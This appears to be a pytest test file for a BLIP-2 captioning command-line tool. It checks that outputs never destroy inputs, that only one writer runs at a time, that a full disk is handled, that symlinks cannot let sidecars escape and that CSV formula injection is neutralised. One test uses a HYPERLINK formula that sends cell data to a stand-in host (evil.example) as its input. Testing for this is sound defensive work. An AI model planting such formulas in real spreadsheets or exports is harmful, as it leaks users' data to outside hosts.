"""Outputs never destroy inputs, and never tear (issue 13, cases 1, 2, 3, 6, 11, 12).

* an output (``-o`` file, part file, sidecar, vector store, ``blip2 sheet -o``) that is an
  input is refused before anything is written, compared by inode (hard links, ./x);
* a sidecar path that is an input image, or any image, is never written;
* a second writer of the same output, part file or sidecar folder is refused (exit 2) and
  the first run goes on unharmed; the kernel lock dies with its process;
* a full disk leaves whole records and a message that says what happened and what next;
* sidecars never escape ``--output-dir`` through a symlink; long names work;
* CSV cells that a spreadsheet would run as formulas are neutralised.

Runs go through the CLI as a user types them, on the tiny OPT checkpoint.
"""

from __future__ import annotations

import csv
import errno
import io
import json
import os
import shutil
import signal
import subprocess
import sys
from pathlib import Path

import pytest

from blip2cli import guard, writers

from helpers import FAST, cli, jsonl, snapshot



# -- case 1: an output that is an input is refused before anything is written --------------
def test_caption_into_one_of_its_input_photos_is_refused_before_the_model(tiny_opt, photos, no_model):
    before = snapshot(photos)
    res = cli("caption", photos, "--model", tiny_opt, "-o", photos / "chelsea.png", *FAST)
    assert res.exit_code == 2, res.output
    assert "chelsea.png" in res.stderr and "destroy" in res.stderr
    assert snapshot(photos) == before  # not touched, nothing added


def test_an_output_reached_through_a_hard_link_or_another_name_is_an_input(tiny_opt, photos, tmp_path, no_model):
    out = tmp_path / "out.jsonl"
    out.write_text('{"path": "x", "error": null}\n')
    os.link(out, photos / "linked.png")  # the same file, found by the folder walk
    res = cli("caption", photos, "--model", tiny_opt, "-o", out, *FAST)
    assert res.exit_code == 2, res.output
    assert "linked.png" in res.stderr and "also the output" in res.stderr
    assert out.read_text() == '{"path": "x", "error": null}\n'
    # another spelling (.., ./) of the same file is the same file too
    res = cli("caption", photos / "chelsea.png", photos / "sub" / ".." / "linked.png", "--model", tiny_opt,
              "-o", tmp_path / "." / "out.jsonl", *FAST)
    assert res.exit_code == 2 and out.read_text() == '{"path": "x", "error": null}\n'


def test_stdin_input_that_is_the_output_becomes_an_error_record(tiny_opt, photos, tmp_path):
    out = tmp_path / "out.jsonl"
    alias = photos / "alias.png"
    os.symlink(out, alias)  # dangling now; it names the output once the run writes it
    names = f"{photos / 'chelsea.png'}\n{alias}\n{photos / 'coffee.png'}\n"
    res = cli("caption", "-", "--model", tiny_opt, "-o", out, "-b", "1", *FAST, input=names)
    assert res.exit_code == 1, res.output
    recs = jsonl(out.read_text())
    assert [Path(r["path"]).name for r in recs] == ["chelsea.png", "alias.png", "coffee.png"]
    assert recs[0]["error"] is None and recs[2]["error"] is None
    assert "is the output" in recs[1]["error"]


def test_stdin_run_never_truncates_an_image_output(tiny_opt, photos, no_model):
    before = (photos / "chelsea.png").read_bytes()
    res = cli("caption", "-", "--model", tiny_opt, "-o", photos / "chelsea.png", *FAST,
              input=f"{photos / 'coffee.png'}\n")
    assert res.exit_code == 2 and "is an image" in res.stderr
    assert (photos / "chelsea.png").read_bytes() == before


def test_sheet_refuses_to_replace_its_own_input(tmp_path):
    src = tmp_path / "big.jsonl"
    body = "".join(json.dumps({"path": f"img{i}.jpg", "caption": "a cat", "error": None}) + "\n" for i in range(50))
    src.write_text(body)
    res = cli("sheet", src, "-o", src, "--html-links")
    assert res.exit_code == 2, res.output
    assert "also the output" in res.stderr and src.read_text() == body
    os.link(src, tmp_path / "same.jsonl")
    res = cli("sheet", tmp_path / "same.jsonl", "-o", tmp_path / "." / "big.jsonl", "--html-links")
    assert res.exit_code == 2 and src.read_text() == body
    res = cli("sheet", src, "-o", tmp_path / "page.html", "--html-links")  # the ordinary case still works
    assert res.exit_code == 0, res.output


def test_embed_store_whose_index_is_an_input_is_refused_before_the_store_opens(tiny_itm, photos, tmp_path, monkeypatch):
    store = tmp_path / "vectors.npy"
    res = cli("embed", photos / "chelsea.png", "--model", tiny_itm, "-o", store)
    assert res.exit_code == 0, res.output
    index = next(store.glob("seg-*.parquet"))  # a file of the store (a folder)
    before = snapshot(tmp_path)
    monkeypatch.setattr("blip2cli.loader.load", lambda *a, **k: pytest.fail("the model must not be loaded"))
    for bad in (index, store):
        res = cli("embed", photos / "coffee.png", bad, "--model", tiny_itm, "-o", store)
        assert res.exit_code == 2, res.output
        assert "also the output" in res.stderr
        assert snapshot(tmp_path) == before


# -- case 2: a sidecar that is an input image is never written -----------------------------
def test_sidecar_ext_of_an_input_image_never_overwrites_it(tiny_opt, tmp_path, example_images):
    folder = tmp_path / "pics"
    folder.mkdir()
    shutil.copy(example_images[0], folder / "a.png")
    shutil.copy(example_images[3], folder / "a.jpg")
    before = (folder / "a.jpg").read_bytes()
    res = cli("caption", folder, "--model", tiny_opt, "--sidecar", "--sidecar-ext", ".jpg",
              "--existing", "overwrite", "-f", "jsonl", *FAST)
    assert res.exit_code == 1, res.output
    recs = {Path(r["path"]).name: r for r in jsonl(res.stdout)}
    assert "image itself" in recs["a.jpg"]["error"]
    assert "input image" in recs["a.png"]["error"] and "never overwritten" in recs["a.png"]["error"]
    assert (folder / "a.jpg").read_bytes() == before
    assert sorted(p.name for p in folder.iterdir()) == ["a.jpg", "a.png"]


def test_sidecar_never_overwrites_an_image_that_is_not_an_input(tiny_opt, tmp_path, example_images):
    folder = tmp_path / "pics"
    folder.mkdir()
    shutil.copy(example_images[0], folder / "a.png")
    shutil.copy(example_images[3], folder / "a.jpg")
    before = (folder / "a.jpg").read_bytes()
    for existing in ("overwrite", "append", "skip"):
        res = cli("caption", folder / "a.png", "--model", tiny_opt, "--sidecar", "--sidecar-ext", "jpg",
                  "--existing", existing, "-f", "jsonl", *FAST)
        assert res.exit_code == 1, (existing, res.output)
        assert "is an image" in jsonl(res.stdout)[0]["error"]
        assert (folder / "a.jpg").read_bytes() == before


def test_a_text_sidecar_that_starts_like_a_bitmap_is_still_overwritten(tiny_opt, tmp_path, example_images):
    folder = tmp_path / "pics"
    folder.mkdir()
    shutil.copy(example_images[0], folder / "a.png")
    (folder / "a.txt").write_text("BMW parked on a street\n")  # "BM": not a bitmap
    res = cli("caption", folder, "--model", tiny_opt, "--sidecar", "--existing", "overwrite", "-f", "jsonl", *FAST)
    assert res.exit_code == 0, res.output
    assert (folder / "a.txt").read_text() == jsonl(res.stdout)[0]["caption"] + "\n"


# -- case 3: one writer at a time -------------------------------------------------------
def _second_run_inside_the_first(monkeypatch, second_args) -> dict:
    """Start the second run while the first is writing its first record; return its result."""
    seen = {}
    real = writers.JsonlWriter.write

    def write(self, record):
        if "second" not in seen:
            seen["second"] = cli(*second_args)
        return real(self, record)

    monkeypatch.setattr(writers.JsonlWriter, "write", write)
    return seen


def test_second_writer_of_the_same_output_file_is_refused_and_the_first_goes_on(tiny_opt, photos, tmp_path, monkeypatch):
    out = tmp_path / "caps.jsonl"
    args = ["caption", photos, "--model", tiny_opt, "-o", out, "-b", "1", *FAST]
    seen = _second_run_inside_the_first(monkeypatch, args)
    res = cli(*args)
    assert res.exit_code == 0, res.output
    second = seen["second"]
    assert second.exit_code == 2 and "another blip2 run is writing" in second.stderr
    recs = jsonl(out.read_text())
    assert len(recs) == 4 and all(r["error"] is None for r in recs)  # whole, once each
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")]  # the lock file is gone


def test_second_writer_of_the_same_part_file_is_refused(tiny_opt, photos, tmp_path, monkeypatch):
    out = tmp_path / "out"
    args = ["caption", photos, "--model", tiny_opt, "-o", f"{out}/", "-b", "1", *FAST]
    seen = _second_run_inside_the_first(monkeypatch, args)
    res = cli(*args)
    assert res.exit_code == 0, res.output
    assert seen["second"].exit_code == 2 and "part file" in seen["second"].stderr
    assert len(jsonl((out / "captions.jsonl").read_text())) == 4


def test_second_writer_of_the_same_sidecar_folder_is_refused(tiny_opt, photos, monkeypatch):
    args = ["caption", photos, "--model", tiny_opt, "--sidecar", "--existing", "append", "-f", "jsonl", "-b", "1", *FAST]
    seen = _second_run_inside_the_first(monkeypatch, args)
    res = cli(*args)
    assert res.exit_code == 0, res.output
    assert seen["second"].exit_code == 2 and "sidecars in" in seen["second"].stderr
    for r in jsonl(res.stdout):  # appended once, not twice
        assert Path(r["sidecar"]).read_text() == r["caption"] + "\n"
    assert not list(photos.rglob(".*"))  # no lock files left among the photos


def test_output_locked_by_another_process_is_refused_before_resume_rewrites_it(tiny_opt, photos, tmp_path, no_model):
    out = tmp_path / "caps.jsonl"
    body = '{"path": "x.png", "error": "failed before"}\n{"path": "torn'  # --resume would rewrite this
    out.write_text(body)
    with guard.FileLock(out):
        res = cli("caption", photos, "--model", tiny_opt, "-o", out, "--resume", *FAST)
    assert res.exit_code == 2 and "another blip2 run is writing" in res.stderr
    assert out.read_text() == body
    with guard.FolderLock(photos):
        res = cli("caption", photos / "chelsea.png", "--model", tiny_opt, "--sidecar", *FAST)
    assert res.exit_code == 2 and not (photos / "chelsea.txt").exists()
    with guard.FileLock(tmp_path / "page.html"):
        res = cli("sheet", out, "-o", tmp_path / "page.html")
    assert res.exit_code == 2 and not (tmp_path / "page.html").exists()


def test_sidecars_from_stdin_in_a_locked_folder_are_error_records(tiny_opt, photos):
    with guard.FolderLock(photos / "sub"):
        res = cli("caption", "-", "--model", tiny_opt, "--sidecar", "-f", "jsonl", *FAST,
                  input=f"{photos / 'chelsea.png'}\n{photos / 'sub' / 'rocket.jpg'}\n")
    assert res.exit_code == 1, res.output
    recs = jsonl(res.stdout)
    assert recs[0]["error"] is None and (photos / "chelsea.txt").exists()
    assert "another blip2 run" in recs[1]["error"] and not (photos / "sub" / "rocket.txt").exists()


@pytest.mark.slow
def test_a_killed_writer_leaves_no_stale_lock(tmp_path):
    out = tmp_path / "caps.jsonl"
    code = ("import os, signal, sys; from blip2cli.guard import FileLock; "
            f"FileLock({str(out)!r}).acquire(); print('locked', flush=True); os.kill(os.getpid(), signal.SIGKILL)")
    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60)
    assert proc.returncode == -signal.SIGKILL and "locked" in proc.stdout
    with guard.FileLock(out):  # the kernel dropped the lock with the process
        pass


# -- case 6: a full disk leaves whole records and says what next ---------------------------
class _FullDisk(io.FileIO):
    """A file on a disk with ``room`` bytes left: a short write, then ENOSPC."""

    room = 0

    def write(self, data):
        left = self.room - self.tell()
        if left <= 0:
            raise OSError(errno.ENOSPC, "No space left on device")
        return super().write(bytes(data)[:left])


def test_disk_full_mid_record_cuts_back_and_says_resume(tiny_opt, photos, tmp_path, monkeypatch):
    out = tmp_path / "caps.jsonl"
    first = cli("caption", photos / "chelsea.png", "--model", tiny_opt, "-f", "jsonl", *FAST)
    one = len(first.stdout.encode())
    _FullDisk.room = one * 2 + one // 2  # two whole records and half of the third

    def full_open(path, mode="r", buffering=-1, **kw):
        raw = _FullDisk(path, mode.replace("b", ""))
        return raw if buffering == 0 else io.BufferedWriter(raw)

    monkeypatch.setattr(writers, "open", full_open, raising=False)
    res = cli("caption", photos, "--model", tiny_opt, "-o", out, "-b", "1", *FAST)
    assert res.exit_code == 1, res.output
    assert "disk is full" in res.stderr and "--resume" in res.stderr
    assert "holds the 2 whole records" in res.stderr
    assert "OSError" not in res.stderr and "Errno" not in res.stderr
    data = out.read_text()
    assert data.endswith("\n") and len(jsonl(data)) == 2
    monkeypatch.undo()
    res = cli("caption", photos, "--model", tiny_opt, "-o", out, "--resume", *FAST)
    assert res.exit_code == 0, res.output
    recs = jsonl(out.read_text())
    assert len(recs) == 4 and len({r["path"] for r in recs}) == 4


def test_dev_full_says_what_happened_and_what_next(tiny_opt, photos):
    if not os.path.exists("/dev/full"):
        pytest.skip("no /dev/full")
    res = cli("caption", photos, "--model", tiny_opt, "-o", "/dev/full", "-f", "jsonl", *FAST)
    assert res.exit_code == 1
    assert "disk is full" in res.stderr and "--resume" in res.stderr
    assert "OSError" not in res.stderr and "Traceback" not in res.output


def test_sink_close_after_a_failed_write_does_not_raise_again(tmp_path):
    from blip2cli.errors import OutputError

    class Full(io.BytesIO):
        def write(self, data):
            raise OSError(errno.ENOSPC, "No space left on device")

        def flush(self):
            raise OSError(errno.ENOSPC, "No space left on device")

    sink = writers.Sink(str(tmp_path / "x.jsonl")).open()
    sink._fh.close()
    sink._fh = Full()
    with pytest.raises(OutputError, match="disk is full"):
        sink.write_record("{}\n")
    sink.close()  # quiet: the error above is the one the user sees


# -- case 11: no escape through a symlinked folder; long names --------------------------
def test_symlinked_folder_in_the_output_dir_does_not_let_sidecars_escape(tiny_opt, photos, tmp_path):
    caps, elsewhere = tmp_path / "caps", tmp_path / "elsewhere"
    caps.mkdir()
    elsewhere.mkdir()
    os.symlink(elsewhere, caps / "sub")
    res = cli("caption", photos, "--model", tiny_opt, "--output-dir", caps, "-f", "jsonl", *FAST)
    assert res.exit_code == 1, res.output
    recs = {os.path.relpath(r["path"], photos): r for r in jsonl(res.stdout)}
    assert recs["chelsea.png"]["error"] is None and (caps / "chelsea.txt").exists()
    assert "outside" in recs["sub/astronaut.png"]["error"] and "outside" in recs["sub/rocket.jpg"]["error"]
    assert list(elsewhere.iterdir()) == []


def test_a_255_byte_file_name_gets_its_sidecar(tiny_opt, tmp_path, example_images):
    folder = tmp_path / "long"
    folder.mkdir()
    image = folder / ("a" * 251 + ".png")
    shutil.copy(example_images[0], image)
    res = cli("caption", image, "--model", tiny_opt, "--sidecar", "-f", "jsonl", *FAST)
    assert res.exit_code == 0, res.output
    rec = jsonl(res.stdout)[0]
    assert rec["error"] is None
    assert (folder / ("a" * 251 + ".txt")).read_text() == rec["caption"] + "\n"
    assert sorted(p.name for p in folder.iterdir()) == sorted([image.name, "a" * 251 + ".txt"])


# -- case 12: CSV cells a spreadsheet would run --------------------------------------------
def test_csv_neutralises_formulas_in_paths_and_questions(tiny_opt, tmp_path, example_images, monkeypatch):
    folder = tmp_path / "pics"
    folder.mkdir()
    shutil.copy(example_images[0], folder / "=1+1.png")
    shutil.copy(example_images[1], folder / "-2.png")
    monkeypatch.chdir(folder)
    question = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    res = cli("ask", "=1+1.png", "-q", question, "--model", tiny_opt, "-f", "csv", *FAST)
    assert res.exit_code == 0, res.output
    rows = list(csv.reader(io.StringIO(res.stdout)))
    assert rows[0][:2] == ["path", "question"]
    assert rows[1][0] == "'=1+1.png" and rows[1][1] == "'" + question
    res = cli("caption", "--model", tiny_opt, "-f", "csv", *FAST, "--", "=1+1.png", "-2.png")
    assert res.exit_code == 0, res.output
    rows = list(csv.reader(io.StringIO(res.stdout)))
    assert [r[0] for r in rows[1:]] == ["'=1+1.png", "'-2.png"]
    # JSON Lines keeps every value as it is
    res = cli("caption", "=1+1.png", "--model", tiny_opt, "-f", "jsonl", *FAST)
    assert jsonl(res.stdout)[0]["path"] == "=1+1.png"


def test_csv_cells_neutralised_numbers_kept():
    from blip2cli.schema import Schema
    from blip2cli.writers import CsvWriter, neutralise_cell

    for bad in ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "-", "=HYPERLINK(\"x\")"):
        assert neutralise_cell(bad) == "'" + bad
    for kept in ("-0.25", "+3", "-1e-05", "a = b", "cat", "", -0.5, 3, None):
        assert neutralise_cell(kept) == kept
    schema = Schema(columns=["path", "caption"], row=lambda r: [r["path"], r["caption"]], text=lambda r: [])
    stream = io.StringIO()
    CsvWriter(stream, schema).write({"path": "@x.png", "caption": "-a dash"})
    CsvWriter(raw := io.StringIO(), schema, header=False, raw=True).write({"path": "@x.png", "caption": "-a"})
    assert list(csv.reader(io.StringIO(stream.getvalue())))[1] == ["'@x.png", "'-a dash"]
    assert list(csv.reader(io.StringIO(raw.getvalue()))) == [["@x.png", "-a"]]


# -- the guard itself -------------------------------------------------------------------
def test_image_magic_is_strict():
    assert guard.image_magic(b"\x89PNG\r\n\x1a\n" + b"\0" * 8)
    assert guard.image_magic(b"\xff\xd8\xff\xe0")
    assert guard.image_magic(b"BM" + b"\0" * 12 + (40).to_bytes(4, "little"))
    assert guard.image_magic(b"RIFF\0\0\0\0WEBPVP8 ")
    assert not guard.image_magic(b"BMW parked on a street\n")
    assert not guard.image_magic(b'{"path": "a.jpg"}\n')
    assert not guard.image_magic(b"")
